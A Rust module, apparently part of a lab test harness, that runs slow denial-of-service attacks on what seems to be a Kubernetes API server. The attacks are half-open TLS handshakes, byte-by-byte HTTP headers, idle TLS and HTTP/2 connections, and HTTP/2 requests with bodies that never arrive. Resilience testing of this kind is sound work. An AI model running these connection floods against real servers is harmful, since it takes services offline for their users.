//! Attacks with many connections that do little.

use std::time::Duration;

use anyhow::Result;
use futures::StreamExt;
use machinery::clock::Clock;
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;

use super::Field;
use super::frames::{self, END_HEADERS, HEADERS, frame};

/// Number of connections, more than a server accepts at a time.
const CROWD: usize = 4_400;
/// How many connections are opened at the same time.
const AT_ONCE: usize = 64;
/// How long a crowd stays connected.
const STAY: Duration = Duration::from_secs(4);

/// Opens `count` connections, [`AT_ONCE`] at a time; refused ones are left out.
async fn crowd<T, F: Future<Output = Result<T>>>(count: usize, one: impl Fn(usize) -> F) -> Vec<T> {
    let all = futures::stream::iter(0..count).map(one).buffer_unordered(AT_ONCE);
    all.filter_map(async |made| made.ok()).collect().await
}

/// Sends the beginning of a TLS handshake and nothing more.
pub async fn half_open(field: &Field<'_>) -> Result<String> {
    let held = crowd(CROWD, async |_| {
        let mut stream = field.lab.endpoint.socket(field.from).await?;
        stream.write_all(&[0x16, 0x03, 0x01]).await?;
        Ok(stream)
    });
    let held = held.await;
    Clock::system().sleep(STAY).await;
    Ok(format!("{} connections", held.len()))
}

/// Sends HTTP/1.1 headers one byte at a time.
pub async fn slow_heads(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "http/1.1")?;
    let mut held = crowd(CROWD / 4, async |_| {
        let mut stream = field.lab.endpoint.connect(tls.clone(), field.from).await?;
        stream.write_all(b"GET /version HTTP/1.1\r\nHost: x\r\nX: ").await?;
        Ok(stream)
    })
    .await;
    let clock = Clock::system();
    for _ in 0..8 {
        let all = held.iter_mut().map(async |stream| drop(stream.write_all(b"y").await));
        futures::future::join_all(all).await;
        clock.sleep(STAY / 8).await;
    }
    Ok(format!("{} connections", held.len()))
}

/// Completes the TLS handshake and sends nothing more.
pub async fn idle_after_tls(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "http/1.1")?;
    let held = crowd(CROWD, async |_| {
        let mut stream = field.lab.endpoint.connect(tls.clone(), field.from).await?;
        stream.flush().await?;
        Ok(stream)
    });
    let held = held.await;
    Clock::system().sleep(STAY).await;
    Ok(format!("{} connections", held.len()))
}

/// Opens connections that send no request and answer pings.
pub async fn idle_http2(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "h2")?;
    let held =
        crowd(CROWD, async |_| frames::connect(&field.lab.endpoint, tls.clone(), field.from, &[]).await);
    let mut tasks = JoinSet::new();
    for stream in held.await {
        tasks.spawn(frames::stay(stream));
    }
    let count = tasks.len();
    Clock::system().sleep(STAY).await;
    let ended = std::iter::from_fn(|| tasks.try_join_next()).count();
    Ok(format!("{count} connections, {} at the end", count - ended))
}

/// Sends bodies that never arrive, on every stream, for three accounts: more requests than the server answers
/// at a time.
pub async fn slow_bodies(field: &Field<'_>) -> Result<String> {
    let tls = field.lab.endpoint.tls(None, "h2")?;
    let path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
    let mut held = Vec::new();
    let mut count = 0;
    for account in ["plain", "reader", "patcher"] {
        let token = field.lab.token(account).await?;
        for _ in 0..3 {
            let mut stream = frames::connect(&field.lab.endpoint, tls.clone(), field.from, &[]).await?;
            for at in 0..200 {
                let head = frames::head(true, path, Some(&token));
                stream.write_all(&frame(HEADERS, END_HEADERS, at * 2 + 1, &head)).await?;
                count += 1;
            }
            stream.flush().await?;
            held.push(stream);
        }
    }
    let answers = held.iter_mut().map(|stream| frames::answered(stream, STAY * 2));
    let answered: usize = futures::future::join_all(answers).await.into_iter().sum();
    Ok(format!("{count} requests, {answered} answered"))
}
